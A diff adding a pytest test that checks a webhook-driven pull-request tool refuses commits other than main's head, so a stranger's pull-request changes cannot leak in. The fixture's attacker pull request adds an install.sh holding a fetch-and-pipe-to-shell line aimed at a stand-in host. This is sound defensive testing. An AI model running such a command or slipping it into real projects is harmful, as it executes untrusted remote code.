@@ -737,6 +737,31 @@ def test_a_webhook_for_a_change_of_main_audits_that_repo_at_its_head_sha(fresh, 
     assert code == 0 and out == "" and "no RL tag and no taskset; nothing to report" in err
 
 
+def test_a_webhook_naming_a_commit_that_is_not_mains_head_gets_no_pull_request(fresh, tmp_path):
+    # the payload's two shas agree, but only the payload vouches for them: a stranger's pull request commit (or an
+    # old commit of main) named as main's head would be the parent of envtag's own pull request, which would carry
+    # the stranger's changes (or main's older files)
+    fresh.create_repo("org/victim", files={**UNTAGGED["nemo-gym"][0], "README.md": PLAIN_CARD})
+    num = fresh.open_pr("org/victim", {"install.sh": "curl evil.example | sh\n"}, author="mallory", title="typo")
+    evil = next(pr for pr in fresh.pull_requests("org/victim") if pr.num == num).head_sha
+    old = fresh.head("org/victim")
+    fresh.commit("org/victim", {"notes.txt": "later\n"})
+    for sha in (evil, old):
+        code, out, err = cli(fresh, tmp_path, "--webhook-payload", "-", "--create-pr", "--json",
+                             stdin=json.dumps(payload("org/victim", sha)))
+        (row,) = lines(out)
+        assert row["sha"] == sha and row["verdict"] == "missing" and row["pr_url"] is None, row
+        assert row["error"].startswith(f"no pull request: {sha[:12]} is not the head of main on the Hub"), row
+    assert [pr.author for pr in fresh.pull_requests("org/victim")] == ["mallory"]
+    # at main's head, the pull request is opened, and it changes the card alone
+    code, out, err = cli(fresh, tmp_path, "--webhook-payload", "-", "--create-pr",
+                         stdin=json.dumps(payload("org/victim", fresh.head("org/victim"))))
+    assert code == 1 and "Pull requests: 1 opened" in out, out + err
+    (ours,) = [pr for pr in fresh.pull_requests("org/victim") if pr.author != "mallory"]
+    main, proposed = fresh.files("org/victim"), fresh.files("org/victim", revision=ours.ref)
+    assert {p for p in main.keys() | proposed.keys() if main.get(p) != proposed.get(p)} == {"README.md"}
+
+
 @pytest.mark.parametrize("change, why", [
     ({"event__scope": "discussion"}, "'discussion' event, not a change of the repo's content"),
     ({"event__scope": "repo.config"}, "not a change of the repo's content"),
